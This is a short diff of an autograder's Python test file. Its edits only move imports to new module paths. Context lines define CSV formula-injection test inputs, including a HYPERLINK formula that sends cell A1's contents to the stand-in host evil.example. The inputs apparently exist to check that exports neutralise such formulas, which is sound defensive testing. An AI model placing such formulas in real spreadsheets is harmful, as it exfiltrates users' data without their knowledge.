@@ -12,10 +12,10 @@ from rich.console import Console
 
 from autograder import build
 from autograder.demo import make_class
-from autograder.export import FORMULA, export
-from autograder.grade import grade
-from autograder.tests.course import copy_of_the_repository
-from autograder.tests.test_intake import make_zip
+from autograder.exports.csv_file import FORMULA, export
+from autograder.grading.run import grade
+from autograder.tests.checkout import copy_of_the_repository
+from autograder.tests.intake.test_intake import make_zip
 
 NAMES = ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\uff1d1+1")
 TEXT = '=HYPERLINK("http://evil.example?"&A1)'
